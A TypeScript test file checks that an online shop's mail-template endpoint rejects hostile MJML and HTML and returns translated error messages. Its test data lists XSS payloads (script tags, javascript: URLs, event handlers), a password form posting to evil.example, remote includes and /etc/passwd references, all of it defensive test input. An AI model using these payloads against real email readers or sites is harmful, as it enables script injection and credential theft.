import { languages, limits, lookups, mailLimits, mailTemplates } from '@dw/contract';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { call, refused } from '../../testing/client';
import { openShop, type Shop } from '../../testing/shop';
import { startTestApp, type TestApp } from '../../testing/test-app';
import { mjmlOf } from './mail-templates.fixture';

let app: TestApp;
let shop: Shop;
/** What is said in a language, by code or English text. */
const told = new Map<string, Readonly<Record<string, unknown>>>();
beforeAll(async () => {
  app = await startTestApp();
  for (const lang of languages.filter((other) => other !== 'en'))
    told.set(lang, await call(app.origin, lookups.translations, { query: { lang } }));
  shop = await openShop(app, 'Alder & Thread');
});
afterAll(() => app.close());

const save = (fields: object) =>
  refused(app.origin, mailTemplates.save, {
    token: shop.token,
    path: { uuid: shop.siteUuid },
    body: { html: '', json: {}, lang_id: 1, type: 'item_added', ...fields },
  });

/** Each sentence, and the message, can be said in every language: by its code, with its parts filled in. */
function expectTranslated({ message, code, params, errors, reasons }: Awaited<ReturnType<typeof save>>): void {
  const said = Object.entries(errors ?? {}).flatMap(([field, texts]) =>
    texts.map((text, at) => ({ text, ...reasons?.[field]?.[at] })),
  );
  expect(said[0]).toMatchObject({ text: message, code, params });
  for (const one of said)
    for (const [language, texts] of told) {
      const text = texts[one.code ?? ''];
      expect(text, `${one.code} in ${language}`).toBeTypeOf('string');
      const places = [...String(text).matchAll(/\{(\w+)\}/g)].map(([, name]) => name);
      expect(places.sort()).toEqual(Object.keys(one.params ?? {}).sort());
    }
}

/** Each runs, leads elsewhere or takes something from elsewhere, in some reader of mail. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src="x" onerror="alert(1)">',
  '<b ONCLICK=alert(1)>x</b>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,x">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="file:///etc/passwd">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object>',
  '<embed src="x">',
  '<svg><a xlink:href="javascript:1">x</a></svg>',
  '<math><mtext>x</mtext></math>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<input type="text" name="password">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>a{background:u\\72l(javascript:alert(1))}</style>',
  '<p style="width:expr/**/ession(alert(1))">x</p>',
  '<p style="behavior: url(x.htc)">x</p>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<template><script>1</script></template>',
  '<video><source onerror="alert(1)"></video>',
  '<p style="color:{{shop_name}}">x</p>',
  '<a href="{{shop_name}}">x</a>',
  '<a title="{{items}}">x</a>',
];

it.each(hostile)('refuses %s, in MJML and in html, and says what it is', async (bad) => {
  const answers = [
    await save({ json: { mjml: mjmlOf(`<mj-text>${bad}</mj-text>`) } }),
    await save({ html: `<html><body>${bad}</body></html>` }),
  ];
  expect(answers.map(({ status, errors }) => [status, Object.keys(errors ?? {})])).toEqual([
    [422, ['json']],
    [422, ['html']],
  ]);
  for (const { message } of answers) expect(message).toMatch(/design|merge tag/);
  for (const answer of answers) expectTranslated(answer);
});

it.each([
  ['<mj-include path="/etc/passwd" />', /includes another file/],
  ['<mj-include path="https://evil.example/x.mjml" type="html" />', /includes another file/],
  ['<mj-unheard-of />', /Line 1: MJML knows no <mj-unheard-of>/],
  ['<mj-column><mj-text>x</mj-text></mj-column>', /Line 1: <mj-column> cannot stand there/],
  [`<mj-image src='x' alt='"><script>1</script>' />`, /<script>/],
  [`<mj-button href="javascript:alert(1)">x</mj-button>`, /javascript:/],
  ['<mj-raw><script>1</script></mj-raw>', /<script>/],
  ['<mj-text>x</mj-text>'.repeat(mailLimits.elements + 1), /too large/],
  ['<mj-text>'.repeat(mailLimits.depth + 5), /too large/],
])('refuses MJML such as %.60s', async (inner, message) => {
  const answer = await save({ json: { mjml: mjmlOf(inner) } });
  expect(answer).toMatchObject({ status: 422, errors: { json: [expect.stringMatching(message)] } });
  expectTranslated(answer);
});

it('refuses what is no MJML, and what is too large', async () => {
  for (const mjml of ['<mjml', '<p>x</p>', '<mjml></mjml>', '<mjml><mj-body><mj-text>x</mj-body></mjml>']) {
    const answer = await save({ json: { mjml } });
    expect(answer.status, mjml).toBe(422);
    expectTranslated(answer);
  }
  expect((await save({ json: { mjml: 'x'.repeat(mailLimits.design) } })).errors).toHaveProperty('json');
  expect((await save({ html: 'x'.repeat(mailLimits.html + 1) })).errors).toHaveProperty('html');
  expect((await save({ json: { mjml: 'x'.repeat(limits.order.bytes) } })).status).toBe(413);
});

it('nothing of all this was kept, and the compiler still serves', async () => {
  const at = { token: shop.token, path: { uuid: shop.siteUuid } };
  expect(await call(app.origin, mailTemplates.list, at)).toEqual([]);
  const body = { json: { mjml: mjmlOf('<mj-text>fine</mj-text>') }, lang_id: 1, type: 'code' } as const;
  expect((await call(app.origin, mailTemplates.save, { ...at, body })).version).toBe(1);
});

it('links no font from elsewhere: shoppers’ mail programs ask nobody', async () => {
  const head = '<mj-head><mj-font name="Lato" href="https://fonts.googleapis.com/css?family=Lato" /></mj-head>';
  const mjml = mjmlOf('<mj-text font-family="Lato">fine</mj-text>', head);
  const body = { json: { mjml }, lang_id: 1, type: 'code' } as const;
  const at = { token: shop.token, path: { uuid: shop.siteUuid } };
  const saved = await call(app.origin, mailTemplates.save, { ...at, body });
  expect(saved.json).toEqual({ mjml });
  expect(saved.html).not.toContain('fonts.googleapis.com');
});
